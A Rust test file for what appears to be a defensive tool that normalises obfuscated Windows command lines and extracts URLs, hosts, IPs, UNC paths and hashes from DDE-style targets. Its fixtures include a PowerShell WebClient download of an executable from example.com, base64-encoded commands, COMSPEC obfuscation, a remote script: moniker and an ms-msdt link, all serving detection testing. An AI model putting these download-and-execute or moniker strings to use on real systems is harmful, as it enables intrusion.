//! The normaliser over anything: it never panics, stays within bounds, and changes nothing the second time.
#![allow(clippy::unwrap_used, missing_docs)]

use ddefend_content::Content;
use ddefend_dde::command::{command_line, command_of};
use ddefend_dde::{Extensions, Place, indicators, place_of};
use ddefend_model::IndicatorKind;
use proptest::prelude::*;
use std::sync::LazyLock;
use std::time::{Duration, Instant};

static CONTENT: LazyLock<Content> = LazyLock::new(|| Content::load().unwrap());

/// Text out of the pieces that mean something to the normaliser.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("cmd".to_owned()),
        Just("powershell ".to_owned()),
        Just("-enc YwBhAGwAYwA=".to_owned()),
        Just("%COMSPEC%".to_owned()),
        Just("%COMSPEC:~-3,2%".to_owned()),
        Just("$env:temp".to_owned()),
        Just("set x=a&".to_owned()),
        Just("!x!".to_owned()),
        Just("\\..\\".to_owned()),
        Just("C:\\".to_owned()),
        Just("'+'".to_owned()),
        Just("[char]72+".to_owned()),
        Just("FromBase64String('Y2FsYy5leGU=')".to_owned()),
        "[ \"'^`%!$:;,~+\\\\/.a-cA-C0-2\u{0}\t\u{fc}-]{0,4}",
        ".{0,3}",
    ];
    proptest::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_text_is_normalised_once_and_for_all(service in pieces(), topic in pieces(), eight: bool) {
        let once = command_of(&service, &topic, eight, CONTENT.knowledge());
        let twice = command_line(&once.line, CONTENT.knowledge());

        prop_assert_eq!(&once.line, &twice.line);
        prop_assert!(once.decoded.len() <= 8);
    }

    #[test]
    fn any_target_has_a_place(target in ".{0,40}") {
        let (place, host) = place_of(&target);
        prop_assert!(place != Place::None || host.is_none());
    }

    #[test]
    fn any_text_has_bounded_indicators(text in pieces()) {
        prop_assert!(indicators([text.as_str()], &Extensions::default(), 3).len() <= 3);
    }
}

#[test]
fn a_megabyte_of_anything_is_normalised_in_time() {
    let knowledge = CONTENT.knowledge();
    let units = [
        "%COMSPEC%",
        "^",
        "\\..\\",
        "'a'+",
        "\"",
        "[char]65+",
        "set x=a&",
        "!x!",
        "cmd ",
        "`",
        "-enc AAAA ",
        "a",
        "\u{fc}",
        "://",
        "\\\\h\\",
    ];
    for unit in units {
        let text = unit.repeat((1 << 20) / unit.len());
        let start = Instant::now();
        let command = command_of(&text, &text, true, knowledge);
        let found = indicators([text.as_str()], &Extensions::default(), 100);
        assert!(command.line.len() < 1 << 21 && found.len() <= 100, "{unit}");
        assert!(start.elapsed() < Duration::from_secs(4), "{unit} took {:?}", start.elapsed());
    }
}

#[test]
fn loading_is_quick() {
    let start = Instant::now();
    for _ in 0..10 {
        Content::load().unwrap();
    }
    // The budget is 3 ms in a release build; this guards the order of magnitude in a debug build on a busy machine.
    assert!(start.elapsed() < Duration::from_secs(3), "{:?} for ten", start.elapsed());
}

#[test]
fn indicators_are_found_in_all_their_forms() {
    use IndicatorKind::{File, Hash, Host, Ip, Unc, Url};
    let extensions =
        Extensions { program: vec!["exe".to_owned()], script: vec!["ps1".to_owned()], ..Extensions::default() };
    let table: &[(&str, &[(IndicatorKind, &str)])] = &[
        (
            "(new-object net.webclient).downloadfile('http://example.com/a.exe','b.exe')",
            &[(Url, "http://example.com/a.exe"), (Host, "example.com"), (File, "b.exe")],
        ),
        (
            "iwr https://user:pw@Example.COM:8443/x?y=1;z",
            &[(Url, "https://user:pw@Example.COM:8443/x?y=1"), (Host, "example.com")],
        ),
        ("http://3405803785/x", &[(Url, "http://3405803785/x"), (Ip, "203.0.113.9")]),
        ("http://0xCB007109/x", &[(Url, "http://0xCB007109/x"), (Ip, "203.0.113.9")]),
        ("http://0313.0.0161.9/", &[(Url, "http://0313.0.0161.9/"), (Ip, "203.0.113.9")]),
        ("http://[2001:db8::1]/x", &[(Url, "http://[2001:db8::1]/x"), (Ip, "2001:db8::1")]),
        (r"copy \\198.51.100.7\share\a.exe", &[(Unc, r"\\198.51.100.7\share\a.exe"), (Ip, "198.51.100.7")]),
        (r"\\host@SSL\DavWWWRoot\x.ps1", &[(Unc, r"\\host@SSL\DavWWWRoot\x.ps1"), (Host, "host")]),
        ("script:http://203.0.113.9/x.sct", &[(Url, "http://203.0.113.9/x.sct"), (Ip, "203.0.113.9")]),
        ("ping 203.0.113.9", &[(Ip, "203.0.113.9")]),
        (r"C:\windows\system32\cmd.exe /k calc.exe", &[(File, r"C:\windows\system32\cmd.exe"), (File, "calc.exe")]),
        ("d41d8cd98f00b204e9800998ecf8427e", &[(Hash, "d41d8cd98f00b204e9800998ecf8427e")]),
        ("file://server/share/a.exe", &[(Unc, r"\\server\share\a.exe"), (Host, "server")]),
    ];
    for (text, expected) in table {
        let found = indicators([*text], &extensions, 100);
        let found: Vec<_> = found.iter().map(|indicator| (indicator.kind, indicator.value.as_str())).collect();
        assert_eq!(found, *expected, "{text}");
    }
}

#[test]
fn places_are_told_apart() {
    use Place::{Http, Local, Mail, None, Relative, Scheme, Script, Unc};
    let table: &[(&str, Place, Option<&str>)] = &[
        ("", None, Option::None),
        ("Book2.xls", Relative, Option::None),
        ("../x/Book2.xls", Relative, Option::None),
        (r"C:\x\Book2.xls", Local, Option::None),
        ("file:///C:/x/Book2.xls", Local, Option::None),
        (r"file:///C:\x\Book2.xls", Local, Option::None),
        ("file:///home/me/Book2.xls", Local, Option::None),
        (r"file:///\\server\share\x.dot", Unc, Some("server")),
        ("file://server/share/x.dot", Unc, Some("server")),
        (r"\\server\share\x.dot", Unc, Some("server")),
        (r"\\?\C:\x", Local, Option::None),
        (r"\\?\UNC\server\x", Unc, Some("server")),
        (r"\\203.0.113.9@80\x", Unc, Some("203.0.113.9")),
        ("https://example.com:444/x", Http, Some("example.com")),
        ("mhtml:http://example.com/x!x", Http, Some("example.com")),
        ("script:http://example.com/x", Script, Some("example.com")),
        ("mailto:me@example.com", Mail, Option::None),
        ("ms-msdt:/id PCWDiagnostic", Scheme, Option::None),
    ];
    for (target, place, host) in table {
        assert_eq!(place_of(target), (*place, *host), "{target}");
    }
}
